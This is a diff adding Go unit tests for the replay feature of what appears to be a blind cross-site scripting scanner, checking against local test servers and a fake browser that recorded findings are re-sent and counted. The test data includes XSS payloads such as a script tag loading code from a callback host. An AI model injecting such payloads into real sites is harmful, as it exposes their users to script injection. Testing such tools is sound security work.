@@ -0,0 +1,156 @@
+package payloads
+
+import (
+	"context"
+	"io"
+	"net/http"
+	"net/http/httptest"
+	"os"
+	"path/filepath"
+	"reflect"
+	"strings"
+	"sync"
+	"testing"
+	"time"
+
+	"github.com/ethicalhackingplayground/bxss/v2/pkg/arguments"
+	"github.com/ethicalhackingplayground/bxss/v2/pkg/browser"
+	"github.com/ethicalhackingplayground/bxss/v2/pkg/callback"
+	"github.com/ethicalhackingplayground/bxss/v2/pkg/report"
+)
+
+// writeFindings writes findings to a JSON lines results file and reads them
+// back, as -replay-file does
+func writeFindings(t *testing.T, findings []report.Finding) []report.Finding {
+	t.Helper()
+	path := filepath.Join(t.TempDir(), "results.jsonl")
+	file, err := os.Create(path)
+	if err != nil {
+		t.Fatal(err)
+	}
+	w := report.NewJSONLWriter(file)
+	for _, f := range findings {
+		if err := w.Write(f); err != nil {
+			t.Fatalf("Write: %v", err)
+		}
+	}
+	w.Close()
+	file.Close()
+
+	file, err = os.Open(path)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer file.Close()
+	loaded, err := report.ReadJSONL(file)
+	if err != nil {
+		t.Fatalf("ReadJSONL: %v", err)
+	}
+	return loaded
+}
+
+func TestReplayIssuesRecordedInjections(t *testing.T) {
+	p := NewPayload(&arguments.Arguments{ReplayWait: 300 * time.Millisecond})
+	listener := callback.NewServer("127.0.0.1:0", p.Tokens)
+	if err := listener.Start(); err != nil {
+		t.Fatal(err)
+	}
+	defer listener.Close()
+	p.Callbacks = listener
+
+	fire, quiet := callback.NewToken(), callback.NewToken()
+	var mu sync.Mutex
+	var sent []string
+	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		body, _ := io.ReadAll(r.Body)
+		mu.Lock()
+		sent = append(sent, r.Method+" "+r.URL.RequestURI()+" "+string(body)+" auth="+r.Header.Get("Authorization"))
+		mu.Unlock()
+		// The blind payload still fires for one of the callback findings
+		if strings.Contains(string(body), fire) {
+			if resp, err := http.Get("http://" + listener.Addr + "/" + fire); err == nil {
+				resp.Body.Close()
+			}
+		}
+	}))
+	defer server.Close()
+
+	page := report.Finding{
+		Target: server.URL + "/search?q=%3Cp1%3E", Method: http.MethodGet, Param: "q", Payload: "<p1>",
+		InjectionPoint: report.PointQuery, Confirmed: true,
+		Request: &report.Request{Method: http.MethodGet, URL: server.URL + "/search?q=%3Cp1%3E", Header: http.Header{"X-Api": {"k"}}},
+	}
+	stored := report.Finding{
+		Target: server.URL + "/comment", Method: http.MethodPost, Param: "c", Payload: "<p2>",
+		InjectionPoint: report.PointBody, View: server.URL + "/comments", Confirmed: true,
+		Request: &report.Request{Method: http.MethodPost, URL: server.URL + "/comment", Body: "c=<p2>",
+			Header: http.Header{"Authorization": {report.Redacted}, "Content-Type": {"application/x-www-form-urlencoded"}}},
+	}
+	injected := func(token string) report.Finding {
+		return report.Finding{
+			Target: server.URL + "/api", Method: http.MethodPut, Param: "msg", Payload: "<script src=//cb/{{token}}>",
+			InjectionPoint: report.PointBody, Token: token,
+			Request: &report.Request{Method: http.MethodPut, URL: server.URL + "/api", Body: `{"msg":"<script src=//cb/` + token + `>"}`},
+		}
+	}
+	called := func(token string) report.Finding {
+		return report.Finding{
+			Target: server.URL + "/api", Param: "msg", Payload: "<script src=//cb/{{token}}>",
+			InjectionPoint: report.PointCallback, Token: token, Confirmed: true,
+		}
+	}
+	findings := writeFindings(t, []report.Finding{
+		page,
+		page,
+		stored,
+		injected(fire),
+		called(fire),
+		injected(quiet),
+		called(quiet),
+		{Target: server.URL + "/search?q=%3Cp9%3E", Method: http.MethodGet, Param: "q", Payload: "<p9>", InjectionPoint: report.PointQuery},
+		{Target: server.URL + "/legacy", Method: http.MethodPost, Param: "c", Payload: "<p3>", InjectionPoint: report.PointBody, Confirmed: true},
+	})
+
+	engine := &browser.FakeEngine{Fire: browser.FireOn("q=%3Cp1%3E", "1")}
+	p.Engine = engine
+	result := p.Replay(context.Background(), nil, findings)
+
+	want := []string{
+		"POST /comment c=<p2> auth=",
+		`PUT /api {"msg":"<script src=//cb/` + fire + `>"} auth=`,
+		`PUT /api {"msg":"<script src=//cb/` + quiet + `>"} auth=`,
+	}
+	if !reflect.DeepEqual(sent, want) {
+		t.Errorf("requests sent = %q, want %q", sent, want)
+	}
+	var loaded []string
+	for _, nav := range engine.Navigations() {
+		loaded = append(loaded, nav.URL)
+		if nav.URL == page.Target && nav.Headers["X-Api"] != "k" {
+			t.Errorf("page loaded with headers %v, want the recorded ones", nav.Headers)
+		}
+	}
+	if want := []string{page.Target, stored.View}; !reflect.DeepEqual(loaded, want) {
+		t.Errorf("pages loaded = %q, want %q", loaded, want)
+	}
+	if want := (ReplayResult{Passed: 2, Failed: 2, Skipped: 1}); result != want {
+		t.Errorf("result = %+v, want %+v", result, want)
+	}
+}
+
+func TestReplaySkipsCallbacksWithoutListener(t *testing.T) {
+	var requests int
+	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { requests++ }))
+	defer server.Close()
+
+	token := callback.NewToken()
+	p := NewPayload(&arguments.Arguments{})
+	p.Engine = &browser.FakeEngine{}
+	result := p.Replay(context.Background(), nil, []report.Finding{
+		{Target: server.URL, Token: token, InjectionPoint: report.PointQuery, Request: &report.Request{Method: http.MethodGet, URL: server.URL}},
+		{Target: server.URL, Token: token, InjectionPoint: report.PointCallback, Confirmed: true},
+	})
+	if requests != 0 || result != (ReplayResult{Skipped: 1}) {
+		t.Errorf("%d requests, result %+v, want the callback finding skipped", requests, result)
+	}
+}